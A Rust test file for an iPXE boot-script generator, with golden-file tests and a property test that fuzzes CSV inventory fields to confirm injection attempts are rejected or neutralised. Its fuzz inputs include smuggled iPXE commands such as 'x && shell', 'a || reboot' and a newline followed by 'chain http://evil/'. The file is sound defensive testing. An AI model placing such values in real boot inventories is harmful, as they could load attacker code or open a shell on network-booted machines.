//! The per-node iPXE script: golden files for representative nodes, and a property test that any
//! field values either fail validation or yield a script with exactly the expected commands.
//!
//! Regenerate the golden files after an intended change with `BLESS=1 cargo test --test script`,
//! and review the diff: the script is the product.

use bootforge::inventory::{Inventory, ServerUrl};
use bootforge::script::{node_script, Medium, ScriptSettings};
use bootforge::token::Secret;
use proptest::prelude::*;
use std::path::Path;

const NODES: &str = "hostname,ip,gateway,dns,mac,vlan,role\n\
node01,10.20.0.11/24,10.20.0.1,10.20.0.2,52:54:00:12:34:56,,server\n\
node02,10.20.0.12/24,10.20.0.1,,,120,agent\n\
node03,10.30.0.7/16,,,aa-bb-cc-dd-ee-03,300,\n";

fn server() -> ServerUrl {
    "http://10.20.0.5:8080".parse().unwrap()
}

fn check_golden(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden").join(name);
    if std::env::var_os("BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e}; run with BLESS=1 to create it", path.display()));
    assert_eq!(actual, expected, "{name} differs from its golden file (BLESS=1 to update)");
}

#[test]
fn golden_scripts() {
    let inv = Inventory::parse("nodes.csv", NODES.as_bytes()).unwrap();
    let server = server();
    let secret = Secret::new(b"golden-test-secret".to_vec()).unwrap();
    let cases = [
        ("node01", Medium::Cd, None, "node01-cd.ipxe"),
        ("node02", Medium::Usb, Some(&secret), "node02-usb-token.ipxe"),
        ("node03", Medium::Esp, None, "node03-esp-vlan.ipxe"),
    ];
    for (host, medium, secret, file) in cases {
        let node = inv.get(host).unwrap();
        let settings =
            ScriptSettings { server: &server, token: secret.map(|s| s.node_token(host)), medium };
        check_golden(file, &node_script(node, &settings));
    }
}

/// Expansions a script may contain: iPXE's own settings and the script's `bootforge-*` variables.
fn allowed_expansion(name: &str) -> bool {
    name.starts_with("bootforge-")
        || name.starts_with("net${bootforge-idx}")
        || name.starts_with("${bootforge-if}/")
        || matches!(name, "platform" | "buildarch" | "uuid:uristring" | "serial:uristring")
}

/// Every `${...}` in `line`, outermost names (nested ones included as written).
fn expansions(line: &str) -> Vec<String> {
    let mut found = Vec::new();
    let bytes = line.as_bytes();
    let mut i = 0;
    while i + 1 < bytes.len() {
        if bytes[i] == b'$' && bytes[i + 1] == b'{' {
            let mut depth = 0;
            let start = i + 2;
            let mut j = i;
            while j < bytes.len() {
                if bytes[j] == b'{' {
                    depth += 1;
                } else if bytes[j] == b'}' {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                j += 1;
            }
            found.push(line[start..j.min(line.len())].to_string());
            i = j;
        }
        i += 1;
    }
    found
}

/// Field values: some well-formed, most hostile.
fn field(valid: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop_oneof![
        proptest::sample::select(valid).prop_map(str::to_string),
        "[a-z0-9.:/-]{0,12}",
        "[ -~]{0,16}",
        proptest::sample::select(&[
            "${net0/mac}", "x && shell", "a || reboot", "a;b", "a\nchain http://evil/", "#x", "\"q\"",
            "http://h/${x}", "http://h/ x", "http://h/#a", "10.0.0.9/24\nshell", "node\r01",
        ][..])
        .prop_map(str::to_string),
    ]
}

fn csv_field(value: &str) -> String {
    format!("\"{}\"", value.replace('"', "\"\""))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn hostile_fields_are_rejected_or_harmless(
        hostname in field(&["node01", "a.b-c", "X1"]),
        ip in field(&["10.0.0.9/24", "172.16.5.4/16"]),
        gateway in field(&["", "10.0.0.1", "172.16.0.1"]),
        dns in field(&["", "10.0.0.2"]),
        mac in field(&["", "52:54:00:aa:bb:cc", "52-54-00-aa-bb-cd"]),
        vlan in field(&["", "1", "4094"]),
        server in field(&["", "http://10.0.0.5:8080", "https://boot.lab/x"]),
        free in "[ -~]{0,24}",
    ) {
        let row = [&hostname, &ip, &gateway, &dns, &mac, &vlan, &server, &free]
            .iter().map(|v| csv_field(v)).collect::<Vec<_>>().join(",");
        let text = format!("hostname,ip,gateway,dns,mac,vlan,server,note\n{row}\n");
        let Ok(inv) = Inventory::parse("p.csv", text.as_bytes()) else { return Ok(()); };
        let node = &inv.nodes()[0];
        let default_server = self::server();
        let settings = ScriptSettings { server: &default_server, token: None, medium: Medium::Cd };
        let script = node_script(node, &settings);

        // The same shape of node with harmless values gives the reference script; the hostile
        // one must have the same number of lines and the same command on every line.
        let mut reference = node.clone();
        reference.hostname = "ref".into();
        reference.server = None;
        let expected = node_script(&reference, &settings);
        prop_assert_eq!(script.lines().count(), expected.lines().count(), "{}", script);
        for (got, want) in script.lines().zip(expected.lines()) {
            prop_assert_eq!(got.split(' ').next(), want.split(' ').next(), "{}", script);
            prop_assert_eq!(got.matches("&&").count(), want.matches("&&").count());
            prop_assert_eq!(got.matches("||").count(), want.matches("||").count());
            for name in expansions(got) {
                prop_assert!(allowed_expansion(&name), "unexpected expansion ${{{}}} in {:?}", name, got);
            }
            prop_assert!(!got.contains(';') && !got.contains('"') && !got.contains('\''), "{:?}", got);
        }
        // Free template columns never reach the media script.
        if free.trim().len() >= 6 {
            prop_assert!(!script.contains(free.trim()));
        }
    }
}
